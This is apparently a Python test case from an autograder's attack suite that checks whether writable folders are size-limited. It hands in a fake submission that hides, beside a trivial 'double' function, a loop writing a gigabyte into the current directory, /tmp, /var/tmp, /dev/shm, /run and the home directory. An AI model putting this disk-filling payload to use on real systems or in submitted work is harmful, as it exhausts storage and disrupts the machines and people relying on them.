"""Writes a gigabyte into every folder that takes it.

Folders that take files are sized, and go away.
"""

from tests.autograder.attacks.tools import BOXED, answered, write

KIND = "harm"
ITEM = "disk"
SCORES = {"double": 0, "count": {0, 1}}
STATUS = None
DOUBLE = (
    BOXED
    + """
block = b"x" * 2**20
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~")):
    path = os.path.join(folder, "left-behind-block")
    with suppress(OSError), open(path, "xb") as file:
        for _ in range(1024 if boxed else 0):
            file.write(block)

def double(x):
    return x
"""
)


def hand_in(folder, released):
    write(folder, answered(released, double_solution=DOUBLE))
